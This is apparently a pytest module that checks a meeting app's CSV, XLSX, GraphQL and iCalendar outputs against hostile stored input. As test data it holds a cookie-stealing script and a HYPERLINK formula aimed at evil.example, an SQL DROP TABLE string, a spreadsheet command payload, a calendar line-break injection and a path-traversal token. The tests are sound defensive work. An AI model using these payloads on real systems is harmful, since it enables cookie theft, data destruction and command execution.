"""Hostile text that was stored (markup, script, SQL, right-to-left overrides, emoji, formulas, line breaks) comes out
of the exports and calendar feeds as text: verbatim in CSV and XLSX except that a spreadsheet formula is neutralised,
escaped in iCalendar so that it cannot add properties; hostile tokens and parameters give 4xx, never 500."""

import csv
import io

import openpyxl
import pytest
from hostile_world import MIXED, world_for_module
from icalendar import Calendar

from openimis_be_meeting.models import Participant
from openimis_be_meeting.services import EventService, ParticipantService

from factories import PASSWORD, person
from frontend import REST, logged_in, rest_get

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
SCRIPT = "<script>document.location='http://evil.example/?'+document.cookie</script>"
SQL = "Robert'); DROP TABLE meeting_participant;--"
INJECTION = "Meeting\r\nATTENDEE;CN=Evil:mailto:evil@example.org\r\nEND:VEVENT"


@pytest.fixture(scope="module")
def hostile(django_db_setup, django_db_blocker):
    yield from world_for_module(django_db_blocker)


@pytest.fixture
def session(hostile, db):
    return logged_in("Admin", PASSWORD)


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def registered(hostile, db):
    """A participant of the open event whose every text field is hostile, registered through the service."""
    data = person(
        900,
        first_name=FORMULA,
        last_name=SCRIPT,
        job_title=SQL,
        dietary_needs=MIXED.strip(),
        accessibility_needs="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    result = ParticipantService(hostile.admin).register({"event_id": str(hostile.world.event.id), **data})
    assert result["success"], result
    return Participant.objects.get(id=result["data"]["id"])


def exported_row(rows: list, participant) -> dict:
    header, *data = rows
    found = [dict(zip(header, row, strict=True)) for row in data if participant.email in row]
    assert len(found) == 1, rows
    return found[0]


EXPECTED = {
    "First name": "'" + FORMULA,
    "Last name": SCRIPT,
    "Job title": SQL,
    "Dietary needs": MIXED.strip(),
    "Accessibility needs": "'@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.django_db
def test_csv_carries_hostile_text_verbatim_and_neutralises_formulas(hostile, session, registered):
    response = rest_get(session, f"events/{hostile.world.event.id}/participants.csv")

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"), newline="")))
    row = exported_row(rows, registered)
    assert {column: row[column] for column in EXPECTED} == EXPECTED


@pytest.mark.django_db
def test_xlsx_carries_hostile_text_as_text_cells(hostile, session, registered):
    response = rest_get(session, f"events/{hostile.world.event.id}/participants.xlsx")

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    row = exported_row(rows, registered)
    # Issue 14: text typed as text, not behind an apostrophe: the cell holds the value itself.
    exact = {
        column: value.removeprefix("'") if value.startswith("'=") or value.startswith("'@") else value
        for column, value in EXPECTED.items()
    }
    assert {column: row[column] for column in EXPECTED} == exact
    assert {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row if cell.value} <= {"s", "n"}


@pytest.mark.django_db
def test_graphql_returns_hostile_text_verbatim(session, registered):
    result = session.post(
        f'{{ meetingParticipants(search: "{registered.email}", first: 5) {{ edges {{ node {{ firstName lastName '
        "jobTitle dietaryNeeds } } } }"
    )

    assert result["data"]["meetingParticipants"]["edges"] == [
        {"node": {"firstName": FORMULA, "lastName": SCRIPT, "jobTitle": SQL, "dietaryNeeds": MIXED.strip()}}
    ]


@pytest.mark.django_db
def test_calendar_escapes_line_breaks_so_no_property_can_be_injected(hostile, session):
    event = hostile.world.event
    description = f"{SCRIPT}\n{SQL}; a, b \\ c\r\n{MIXED.strip()}"
    result = EventService(hostile.admin).update({"id": str(event.id), "name": INJECTION, "description": description})
    assert result["success"], result

    response = session.http.get(REST + f"events/{event.id}/calendar.ics")

    assert response.status_code == 200
    data = body(response)
    lines = data.replace(b"\r\n ", b"").split(b"\r\n")  # unfolded content lines
    assert not [line for line in lines if line.startswith(b"ATTENDEE")]
    assert lines.count(b"BEGIN:VEVENT") == lines.count(b"END:VEVENT")
    events = Calendar.from_ical(data).walk("VEVENT")
    (vevent,) = [item for item in events if str(item["SUMMARY"]).startswith("Meeting\n")]
    assert str(vevent["SUMMARY"]) == INJECTION.replace("\r\n", "\n")
    assert str(vevent["DESCRIPTION"]).startswith(description.replace("\r\n", "\n"))
    assert "ATTENDEE" not in vevent


HOSTILE_TOKENS = ["%00", "%00" * 70, "x" * 65, "%27%20OR%201%3D1%20--", "%F0%9F%92%A5", "..%2F..%2Fetc%2Fpasswd", "%ZZ"]


@pytest.mark.django_db
@pytest.mark.parametrize("token", HOSTILE_TOKENS)
def test_hostile_feed_tokens_are_not_found(hostile, token):
    response = logged_in("Admin", PASSWORD).http.get(REST + f"feeds/{token}/agenda.ics")

    assert response.status_code == 404, body(response)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("params", "field"),
    [({"search": "a\x00b"}, "search"), ({"search": "x" * 101}, "search"), ({"status": "\x00"}, "status")],
)
def test_hostile_export_parameters_are_a_400_in_json(hostile, session, params, field):
    response = rest_get(session, f"events/{hostile.world.event.id}/participants.csv", **params)

    assert response.status_code == 400
    assert response.json()["field"] == field
    assert response.json()["code"].startswith("meeting.validation.")
